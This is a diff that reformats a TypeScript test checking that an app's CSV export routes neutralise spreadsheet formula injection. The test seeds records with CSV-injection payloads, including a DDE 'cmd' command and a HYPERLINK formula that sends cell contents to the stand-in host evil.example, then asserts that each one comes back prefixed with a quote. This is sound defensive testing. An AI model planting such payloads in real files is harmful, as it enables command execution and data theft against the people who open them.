@@ -5,7 +5,13 @@ import { feedback } from '../../server/src/db/schema';
 import { seedDemoData } from '../../server/src/demo/seedDemoData';
 import { startTestApi, type TestApi } from '../support/apiServer';
 
-const FORMULAS = ["=cmd|' /C calc'!A0", '+SUM(1,2)', '-2+3+cmd|x', '@SUM(A1)', '=HYPERLINK("http://evil.example/?"&A1,"click")'];
+const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  '+SUM(1,2)',
+  '-2+3+cmd|x',
+  '@SUM(A1)',
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+];
 
 let api: TestApi;
 let rootToken: string;
@@ -14,13 +20,31 @@ beforeAll(async () => {
   await seedDemoData(api.db);
   rootToken = await api.signIn();
   for (const [index, formula] of FORMULAS.entries()) {
-    const news = await api.call('POST', '/api/news', { title: formula, description: formula, imageUrl: 'https://cdn.example.com/a.png', link: 'https://example.com', publishedAt: `2025-03-0${index + 1}T08:00:00.000Z` }, rootToken);
+    const news = await api.call(
+      'POST',
+      '/api/news',
+      {
+        title: formula,
+        description: formula,
+        imageUrl: 'https://cdn.example.com/a.png',
+        link: 'https://example.com',
+        publishedAt: `2025-03-0${index + 1}T08:00:00.000Z`,
+      },
+      rootToken,
+    );
     expect(news.statusCode).toBe(200);
-    const notice = await api.call('POST', '/api/notices', { content: formula, link: 'https://example.com', platform: 'web' }, rootToken);
+    const notice = await api.call(
+      'POST',
+      '/api/notices',
+      { content: formula, link: 'https://example.com', platform: 'web' },
+      rootToken,
+    );
     expect(notice.statusCode).toBe(200);
   }
   // Feedback arrives from the public site, outside this API.
-  await api.db.insert(feedback).values(FORMULAS.map((formula) => ({ email: `${formula}@example.com`, content: formula })));
+  await api.db
+    .insert(feedback)
+    .values(FORMULAS.map((formula) => ({ email: `${formula}@example.com`, content: formula })));
 }, 120_000);
 afterAll(() => api.close());
 
@@ -33,12 +57,22 @@ function csvCells(text: string): string[] {
     if (text[index] === '"') {
       index += 1;
       while (index < text.length) {
-        if (text[index] === '"' && text[index + 1] === '"') { cell += '"'; index += 2; }
-        else if (text[index] === '"') { index += 1; break; }
-        else { cell += text[index]; index += 1; }
+        if (text[index] === '"' && text[index + 1] === '"') {
+          cell += '"';
+          index += 2;
+        } else if (text[index] === '"') {
+          index += 1;
+          break;
+        } else {
+          cell += text[index];
+          index += 1;
+        }
       }
     } else {
-      while (index < text.length && text[index] !== ',' && text[index] !== '\r' && text[index] !== '\n') { cell += text[index]; index += 1; }
+      while (index < text.length && text[index] !== ',' && text[index] !== '\r' && text[index] !== '\n') {
+        cell += text[index];
+        index += 1;
+      }
     }
     cells.push(cell);
     if (text[index] === ',') index += 1;
@@ -51,22 +85,36 @@ const NUMBER = /^-?\d+(\.\d+)?$/;
 
 describe('CSV exports', () => {
   it('every export route answers CSV in which no text cell can run as a formula', async () => {
-    const exportRoutes = api.app.routeRegistry.filter((route) => route.method === 'GET' && route.url.endsWith('/export'));
-    expect(exportRoutes.map((route) => route.url).sort()).toEqual(expect.arrayContaining(['/api/feedback/export', '/api/news/export', '/api/nftAirdrops/export', '/api/notices/export', '/api/points/export']));
+    const exportRoutes = api.app.routeRegistry.filter(
+      (route) => route.method === 'GET' && route.url.endsWith('/export'),
+    );
+    expect(exportRoutes.map((route) => route.url).sort()).toEqual(
+      expect.arrayContaining([
+        '/api/feedback/export',
+        '/api/news/export',
+        '/api/nftAirdrops/export',
+        '/api/notices/export',
+        '/api/points/export',
+      ]),
+    );
     for (const route of exportRoutes) {
       const response = await api.call('GET', route.url, undefined, rootToken);
-      expect({ route: route.url, status: response.statusCode, type: response.headers['content-type'] }).toEqual({ route: route.url, status: 200, type: expect.stringMatching(/^text\/csv/) });
+      expect({ route: route.url, status: response.statusCode, type: response.headers['content-type'] }).toEqual({
+        route: route.url,
+        status: 200,
+        type: expect.stringMatching(/^text\/csv/),
+      });
       const dangerous = csvCells(response.body).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell));
       expect({ route: route.url, dangerous }).toEqual({ route: route.url, dangerous: [] });
     }
   });
 
-  it.each([
-    ['/api/news/export'],
-    ['/api/notices/export'],
-    ['/api/feedback/export'],
-  ])('%s carries each seeded formula, neutralised with a leading quote', async (url) => {
-    const cells = csvCells((await api.call('GET', url, undefined, rootToken)).body);
-    for (const formula of FORMULAS) expect({ formula, found: cells.includes(`'${formula}`) }).toEqual({ formula, found: true });
-  });
+  it.each([['/api/news/export'], ['/api/notices/export'], ['/api/feedback/export']])(
+    '%s carries each seeded formula, neutralised with a leading quote',
+    async (url) => {
+      const cells = csvCells((await api.call('GET', url, undefined, rootToken)).body);
+      for (const formula of FORMULAS)
+        expect({ formula, found: cells.includes(`'${formula}`) }).toEqual({ formula, found: true });
+    },
+  );
 });
